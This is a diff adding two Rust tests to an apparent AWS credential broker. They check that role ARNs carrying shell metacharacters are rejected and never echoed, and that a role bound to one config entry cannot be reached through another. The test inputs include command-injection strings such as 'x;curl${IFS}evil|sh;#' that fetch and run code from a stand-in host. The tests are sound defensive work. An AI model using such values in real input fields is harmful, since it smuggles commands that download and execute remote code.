@@ -96,6 +96,62 @@ async fn any_other_role_is_refused_with_the_line_to_add() {
 }
 
 #[tokio::test]
+async fn nothing_that_a_shell_would_run_comes_back() {
+    // The policy asks the person, and what a person is asked names the role.
+    let wide = allowing("[\"arn:aws:iam::*:role/*\", \"arn:aws:iam::*:role/team/*\"]");
+    let company = chain(&format!("{wide}{}", policy("aws.a", "confirm = \"first\""))).await;
+    let programs = Programs::new();
+    let before = company.sts_calls();
+    let ask = async |role_arn: &str| {
+        let ask = ToolAsk::CredentialProcess { name: "a".to_owned(), role_arn: Some(role_arn.to_owned()) };
+        company.agent.tool_of(ask, &programs.asker("terraform")).await.unwrap_err()
+    };
+    for path in
+        ["x;curl${IFS}evil|sh;#", "$(evil)", "`evil`", "x&evil", "x>evil", "'evil'", "~evil", "x!evil"]
+    {
+        for role_arn in [format!("arn:aws:iam::123456789012:role/{path}"), path.to_owned()] {
+            let refusal = ask(&role_arn).await;
+            assert_eq!(refusal.code, Code::BadRequest, "{role_arn}: {refusal}");
+            assert!(!format!("{} {}", refusal.say, refusal.hint).contains("evil"), "{refusal:?}");
+        }
+    }
+    // The control: one of IAM's own alphabet is asked about by its name.
+    let role_arn = "arn:aws:iam::123456789012:role/team/x+=,.@_-1";
+    let refusal = ask(role_arn).await;
+    assert_eq!(refusal.code, Code::ApprovalPending, "{refusal}");
+    assert_eq!(refusal.hint, format!("keyfob approve aws.a/{role_arn}"));
+    assert_eq!(company.sts_calls(), before);
+}
+
+#[tokio::test]
+async fn a_role_with_an_entry_of_its_own_is_reached_by_no_other() {
+    let programs = Programs::new();
+    let prod = format!(
+        "\n[aws.prod]\nsso = \"okta\"\nrole_arn = \"{EXTERNAL}\"\nregion = \"eu-west-1\"\nendpoint_url = \"STS\"\n"
+    );
+    let guard = policy("aws.prod", &crate::programs::allow(&programs.path("terraform")));
+    let company = with_external().await;
+    // The control: without the entry it is anybody's who may have `a`.
+    ask(&company, "a", EXTERNAL).await.unwrap();
+    let named = EntryName { kind: "aws", name: "a".to_owned() }.of_role(EXTERNAL);
+    assert!(company.agent.leases.get(&named).is_some());
+
+    company.configure(&format!("{}{prod}{guard}", allowing(PATTERN)));
+    // IAM takes no names that differ in case alone.
+    for role_arn in [EXTERNAL.to_owned(), EXTERNAL.replace("external-ci", "external-CI")] {
+        let refusal = ask(&company, "a", &role_arn).await.unwrap_err();
+        assert_eq!((refusal.code, refusal.hint.as_str()), (Code::NotAllowed, "ask for aws.prod"));
+        assert_eq!(
+            refusal.say,
+            format!("the role `{role_arn}` is that of `aws.prod`, and not reached by another entry")
+        );
+    }
+    assert!(company.agent.leases.get(&named).is_none(), "what was bought before is not kept");
+    let refusal = ask(&company, "prod", EXTERNAL).await.unwrap_err();
+    assert!(refusal.code == Code::NotAllowed && refusal.say.contains("aws.prod"), "its policy: {refusal}");
+}
+
+#[tokio::test]
 async fn a_pattern_that_is_taken_out_takes_its_keys_along() {
     let company = with_external().await;
     ask(&company, "a", EXTERNAL).await.unwrap();
